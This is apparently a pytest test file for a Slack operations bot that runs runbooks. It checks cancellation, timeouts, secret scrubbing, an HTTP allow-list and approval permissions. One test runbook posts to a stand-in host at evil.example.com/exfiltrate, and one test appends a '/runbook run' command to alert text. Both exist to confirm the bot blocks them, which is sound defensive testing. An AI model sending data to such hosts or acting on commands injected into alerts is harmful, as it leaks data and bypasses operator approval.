"""Runbook execution through the real app: cancellation, timeouts, scrubbed environment, http
allow-list, the bot restart that leaves a run interrupted, and suggestions on the incident card."""

from __future__ import annotations

import http.server
import json
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from bot.settings import Settings
from bot.standin.harness import LiveServer
from knowledge.db import Database
from knowledge.models import AuditRecord, Incident, RunbookExecution
from knowledge.runbook_store import import_dir

CH = "C0OPS"
TEST_RUNBOOKS = {
    "sleepy.md": """---
id: sleepy
title: Sleep for a while
risk: low
parameters:
  seconds: {type: int, min: 1, max: 60}
steps:
  - {name: Sleep, kind: shell, run: [sleep, "{seconds}"], timeout_s: 30}
  - {name: Never reached when cancelled, kind: manual, text: done}
---
A runbook for tests.
""",
    "slow.md": """---
id: slow
title: Too slow
risk: low
steps:
  - {name: Sleep past the timeout, kind: shell, run: [sleep, "20"], timeout_s: 1}
---
""",
    "env-and-http.md": """---
id: env-and-http
title: Show the environment and call the API
risk: low
steps:
  - {name: Environment, kind: shell, run: [env]}
  - {name: Call, kind: http, method: GET, url: "http://127.0.0.1:PORT/api/auth.test"}
---
""",
    "sre-only.md": """---
id: sre-only
title: Only the SRE user group, only in the ops channel
risk: high
approvers: [S0SRE]
allowed_users: [S0SRE, U0ALICE]
allowed_channels: [C0OPS]
steps:
  - {name: Environment, kind: shell, run: [env]}
---
""",
    "leaves-a-helper.md": """---
id: leaves-a-helper
title: Starts something in the background and returns
risk: low
steps:
  - {name: Fork, kind: shell, run: [sh, -c, "sleep 287 & echo started"]}
---
""",
    "big-answer.md": """---
id: big-answer
title: Calls an endpoint that answers 50 MB
risk: low
steps:
  - {name: Call, kind: http, method: GET, url: "http://127.0.0.1:BIGPORT/dump"}
---
""",
    "outside.md": """---
id: outside
title: Calls a host that is not allowed
risk: low
steps:
  - {name: Call, kind: http, method: POST, url: "https://evil.example.com/exfiltrate"}
---
""",
}


class _Big(http.server.BaseHTTPRequestHandler):
    """An endpoint that answers 50 MB, as a metrics dump or a log endpoint can."""

    def log_message(self, *args: Any) -> None:
        return None

    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        self.send_response(200)
        self.send_header("content-type", "text/plain")
        self.send_header("content-length", str(50 * 2**20))
        self.end_headers()
        try:
            for _ in range(50 * 16):
                self.wfile.write(b"x" * 65536)
        except (BrokenPipeError, ConnectionResetError):  # the bot stopped reading at its cap
            pass


BIG = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Big)
threading.Thread(target=BIG.serve_forever, daemon=True).start()


@pytest.fixture
def settings(tmp_path: Path, standin: Any) -> Settings:
    from tests.conftest import make_settings  # type: ignore[import-not-found]

    return make_settings(tmp_path, standin, runbook_commands=["sleep", "env", "kubectl", "sh"],
                         runbook_http_hosts=["127.0.0.1"], warm_models=False)  # ours builds lazily


@pytest.fixture
def extra(db: Database, tmp_path: Path, standin: Any) -> Database:
    d = tmp_path / "rb"
    d.mkdir()
    port = standin.api_url.split(":")[2].split("/")[0]
    for name, text in TEST_RUNBOOKS.items():
        (d / name).write_text(text.replace("BIGPORT", str(BIG.server_address[1])).replace("PORT", port))
    with db.session() as s:
        import_dir(s, path=d)
    return db


def _text(msg: dict[str, Any]) -> str:
    from bot.render import blocks_to_text

    return blocks_to_text(msg.get("blocks") or []) or msg.get("text", "")


def _value(live: Any, action: str, channel: str = CH) -> tuple[str, str]:
    for m in reversed(live.standin.messages(channel)):
        for b in m.get("blocks") or []:
            for e in b.get("elements", []) if b.get("type") == "actions" else []:
                if e["action_id"] == action:
                    return e["value"], m["ts"]
    raise AssertionError(f"no {action} button")


def _wait(live: Any, eid: int, states: tuple[str, ...], timeout: float = 20) -> RunbookExecution:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with live.db.session() as s:
            row = s.get(RunbookExecution, eid)
            if row is not None and row.status in states:
                return row
        time.sleep(0.05)
    raise AssertionError(f"run {eid} never reached {states}")


def _start(live: Any, text: str, user: str = "U0ALICE") -> tuple[int, str]:
    assert live.driver.command("/runbook", text, user=user, channel=CH).status_code == 200
    live.drain()
    value, ts = _value(live, "runbooks:confirm")
    assert live.driver.click("runbooks:confirm", value, user=user, channel=CH, message_ts=ts).status_code == 200
    return int(value.split(":")[0]), ts


def test_running_step_is_cancelled_and_killed(extra: Database, live: Any) -> None:
    eid, _ts = _start(live, "run sleepy seconds=25")
    _wait(live, eid, ("running",))
    deadline = time.monotonic() + 10
    while not any("Running sleepy" in _text(m) for m in live.standin.messages(CH)) and time.monotonic() < deadline:
        time.sleep(0.05)
    cancel_value, ts = _value(live, "runbooks:cancel")
    started = time.monotonic()
    assert live.driver.click("runbooks:cancel", cancel_value, user="U0ALICE", channel=CH,
                             message_ts=ts).status_code == 200
    row = _wait(live, eid, ("cancelled", "succeeded", "failed"))
    assert row.status == "cancelled"
    assert time.monotonic() - started < 15, "the sleep was killed, not waited for"
    live.drain()
    with live.db.session() as s:
        actions = [a.action for a in s.scalars(select(AuditRecord).where(AuditRecord.execution_id == eid))]
    assert "runbook.cancel_requested" in actions and actions[-1] == "runbook.cancelled"
    with live.db.session() as s:
        steps = [a.detail for a in s.scalars(select(AuditRecord).where(AuditRecord.execution_id == eid)
                                             .where(AuditRecord.action == "runbook.step"))]
    assert [d["step"] for d in steps] in ([], [1]), "the step after the cancelled one never ran"
    assert all(d["status"] == "cancelled" for d in steps)


def test_timeout_fails_the_run(extra: Database, live: Any) -> None:
    eid, _ = _start(live, "run slow")
    row = _wait(live, eid, ("succeeded", "failed"))
    assert row.status == "failed" and "killed after 1s timeout" in row.output


def test_child_gets_no_secrets_and_http_goes_only_to_allowed_hosts(extra: Database, live: Any,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    eid, ts = _start(live, "run env-and-http")
    row = _wait(live, eid, ("succeeded", "failed"))
    assert row.status == "succeeded", row.output
    assert "PATH=/usr/local/sbin" in row.output
    for secret in ("xoxb-", "WARROOM_", "AWS_SECRET", "wJalrXUtnFEMI"):
        assert secret not in row.output
    assert "HTTP 200" in row.output
    live.drain()
    thread = [_text(m) for m in live.standin.messages(CH) if m.get("thread_ts") == ts]
    assert any("PATH=/usr/local/sbin" in t for t in thread)

    assert live.driver.command("/runbook", "run outside", user="U0ALICE", channel=CH).status_code == 200
    live.drain()
    assert "host `evil.example.com` is not on the http allow-list" in _text(live.standin.messages(CH)[-1])


def test_a_step_leaves_nothing_running_and_a_big_answer_is_not_read_whole(extra: Database, live: Any) -> None:
    """What a step forks ends with the step (nothing runs on unaudited); an HTTP step's 50 MB answer is read up to
    the output cap and said to be cut, not loaded whole into the bot."""
    eid, _ = _start(live, "run leaves-a-helper")
    row = _wait(live, eid, ("succeeded", "failed"))
    assert row.status == "succeeded" and "started" in row.output, row.output
    assert subprocess.run(["pgrep", "-f", "sleep 287"], capture_output=True).returncode == 1, "the helper runs on"
    eid, _ = _start(live, "run big-answer")
    row = _wait(live, eid, ("succeeded", "failed"))
    assert row.status == "succeeded" and "(output cut)" in row.output, row.output[-300:]
    assert len(row.output) < 40_000


def test_restart_marks_running_runs_interrupted(settings: Settings, db: Database, standin: Any) -> None:
    with db.session() as s:
        s.add(RunbookExecution(runbook_slug="restart-service", runbook_version=1, requested_by="U0CARLA",
                               approved_by="U0DEV", params={"service": "payments-api"}, status="running"))
    with LiveServer(settings) as srv:
        with srv.services.db.session() as s:
            row = s.scalars(select(RunbookExecution)).one()
            assert row.status == "interrupted" and row.finished_at is not None
            audit = s.scalars(select(AuditRecord).where(AuditRecord.execution_id == row.id)).all()
            assert [a.action for a in audit] == ["runbook.interrupted"]


def test_alert_webhook_card_shows_suggestions_and_run_button_starts_a_confirmation(live: Any) -> None:
    body = json.loads((Path(__file__).parent / "payloads" / "alertmanager.json").read_text())
    body["alerts"][0]["annotations"]["description"] += "\nops: /runbook run restart-service service=payments-api"
    raw = json.dumps(body).encode()
    resp = live.driver.http.post(f"{live.url}/webhooks/alertmanager", content=raw,
                                 headers={"Authorization": "Bearer am-secret-0123456789",
                                          "Content-Type": "application/json"})
    assert resp.status_code == 202, resp.text
    deadline = time.monotonic() + 30
    finding: dict[str, Any] = {}
    while time.monotonic() < deadline and not finding:
        live.drain()
        with live.db.session() as s:
            inc = s.scalars(select(Incident).where(Incident.status != "resolved")).first()
            finding = dict(((inc.findings or {}).get("runbooks") or {}) if inc else {})
        time.sleep(0.1)
    assert finding, "triage stored no runbook suggestions"
    top = finding["data"]["suggestions"][0]
    assert top["slug"] == "restart-service"
    assert any("alert HighErrorRate" in w for w in top["why"]) and any("similar past" in w for w in top["why"])
    assert any("I ignored it" in line for line in finding["lines"])
    with live.db.session() as s:
        assert s.scalar(select(RunbookExecution.id)) is None, "alert text must never start a run"
        assert s.scalar(select(AuditRecord.id).where(AuditRecord.action == "runbook.refused")) is not None
    channel = live.services.settings.slack_incident_channel
    value, ts = _value(live, "runbooks:start", channel)
    assert value.startswith("restart-service:")
    assert live.driver.click("runbooks:start", value, user="U0CARLA", channel=channel,
                             message_ts=ts).status_code == 200
    live.drain()
    ask = [_text(m) for m in live.standin.messages(channel) if "Run restart-service v1?" in _text(m)]
    assert ask and "kubectl rollout restart deployment/payments-api -n prod" in ask[-1]
    # The other suggestions' buttons: Slack refuses buttons sharing an action_id in one block, so each has its own,
    # and it starts its own runbook (rollback-deploy needs a version: the clicker is told how to give it)
    second = finding["data"]["suggestions"][1]["slug"]
    value, ts = _value(live, "runbooks:start#2", channel)
    assert value.startswith(f"{second}:")
    before = len(live.standin.calls)
    assert live.driver.click("runbooks:start#2", value, user="U0CARLA", channel=channel,
                             message_ts=ts).status_code == 200
    live.drain()
    answers = [json.dumps(c.args) for c in live.standin.calls[before:]
               if c.method in ("chat.postMessage", "chat.postEphemeral") and c.args.get("user") in (None, "U0CARLA")]
    assert any(f"Run {second} v1?" in a or f"/runbook run {second} " in a for a in answers), answers


def test_slack_user_group_and_channel_permissions(extra: Database, live: Any) -> None:
    live.standin.usergroups["S0SRE"] = ["U0ZED"]
    assert live.driver.command("/runbook", "run sre-only", user="U0ALICE", channel="C0GENERAL").status_code == 200
    live.drain()
    assert "may only be run in <#C0OPS>" in _text(live.standin.messages("C0GENERAL")[-1])
    assert live.driver.command("/runbook", "run sre-only", user="U0BOB", channel=CH).status_code == 200
    live.drain()
    assert "you are not allowed to run `sre-only`" in _text(live.standin.messages(CH)[-1])
    eid, ts = _start(live, "run sre-only")
    live.drain()
    value, ts = _value(live, "runbooks:approve")
    for user in ("U0BOB", "U0ALICE"):  # not in the group / the requester
        assert live.driver.click("runbooks:approve", value, user=user, channel=CH, message_ts=ts).status_code == 200
        live.drain()
        assert "Refused" in _text(live.standin.messages(CH)[-1])
    assert live.driver.click("runbooks:approve", value, user="U0ZED", channel=CH, message_ts=ts).status_code == 200
    row = _wait(live, eid, ("succeeded", "failed"))
    assert row.status == "succeeded" and row.approved_by == "U0ZED"
    assert live.standin.calls_to("usergroups.users.list"), "the group was resolved through the Web API"


def test_run_button_on_an_ephemeral_suggestion_where_the_bot_is_not_a_member(live: Any) -> None:
    """`/runbook suggest` in a private channel without the bot answers through the response_url, only to the
    asker (ephemeral). Its *Run* button arrives as Slack sends a click on an ephemeral message: no ``message``,
    the container's ts, a response_url. The confirmation goes back through that response_url (the bot cannot
    post there); before, the job failed and the person saw nothing. The service the question named fills the
    runbook's ``service`` parameter (before, the click was refused: "needs service=...")."""
    live.standin.leave("G0PRIVATE", private=True)
    live.driver.command("/runbook", "suggest payments-api pods crash looping, restart them", user="U0CARLA",
                        channel="G0PRIVATE")
    live.drain()
    (answer,) = live.standin.calls_to("response_url")
    assert answer.args["response_type"] == "ephemeral"
    buttons = [e for b in answer.args.get("blocks") or [] if b.get("type") == "actions" for e in b["elements"]]
    run = next(e for e in buttons if e["value"].startswith("restart-service"))
    assert live.driver.click(run["action_id"], run["value"], user="U0CARLA", channel="G0PRIVATE",
                             ephemeral=True).status_code == 200
    live.drain()
    replies = live.standin.calls_to("response_url")[1:]
    assert replies and "Run restart-service v1?" in json.dumps(replies[-1].args), [r.args for r in replies]
    assert live.standin.calls_to("conversations.join") == []
    with live.db.session() as s:
        row = s.scalars(select(RunbookExecution).where(RunbookExecution.runbook_slug == "restart-service")).one()
        assert row.status == "pending" and row.requested_by == "U0CARLA", "previewed, nothing ran"
        assert row.params["service"] == "payments-api"


def test_guests_outsiders_and_bots_never_request_or_approve(extra: Database, live: Any) -> None:
    """Whatever a runbook's lists say, Slack decides who is a person of this workspace: a guest (even in the
    approvers' user group), someone from another organisation in a Slack Connect channel, a bot, a deactivated
    account are refused, and every refusal is audited. When Slack cannot tell (users.info refused), nothing runs."""
    live.standin.users.update({"U0GUEST": {"is_restricted": True}, "U0EXT": {"team_id": "T0OTHERORG"},
                               "U0BOTTY": {"is_bot": True}, "U0GONE": {"deleted": True}})
    live.standin.usergroups["S0SRE"] = ["U0GUEST", "U0EXT", "U0ZED"]
    for user, said in (("U0GUEST", "a guest account cannot run"), ("U0EXT", "another organisation"),
                       ("U0BOTTY", "a bot or app cannot run"), ("U0GONE", "a deactivated account cannot run")):
        live.driver.command("/runbook", "run sleepy seconds=1", user=user, channel=CH)
        live.drain()
        assert said in _text(live.standin.messages(CH)[-1]), user
    eid, ts = _start(live, "run sre-only")  # U0ALICE asks; the high-risk run needs someone from S0SRE
    live.drain()
    value, ts = _value(live, "runbooks:approve")
    for user in ("U0GUEST", "U0EXT"):  # both in the group, neither may approve
        live.driver.click("runbooks:approve", value, user=user, channel=CH, message_ts=ts)
        live.drain()
        assert "Refused" in _text(live.standin.messages(CH)[-1]), user
    live.standin.refuse("users.info", "missing_scope")
    live.driver.click("runbooks:approve", value, user="U0ZED", channel=CH, message_ts=ts)
    live.drain()
    assert "an account I could not check (users.info: missing_scope) cannot run" in _text(live.standin.messages(CH)[-1])
    with live.db.session() as s:
        row = s.get(RunbookExecution, eid)
        assert row is not None and row.status == "awaiting_approval" and row.approved_by is None
        refusals = s.scalars(select(AuditRecord).where(AuditRecord.action == "runbook.refused")).all()
        assert {r.actor for r in refusals} >= {"U0GUEST", "U0EXT", "U0BOTTY", "U0GONE", "U0ZED"}
    live.driver.click("runbooks:approve", value, user="U0ZED", channel=CH, message_ts=ts)  # Slack answers again
    row = _wait(live, eid, ("succeeded", "failed"))
    assert row.status == "succeeded" and row.approved_by == "U0ZED"
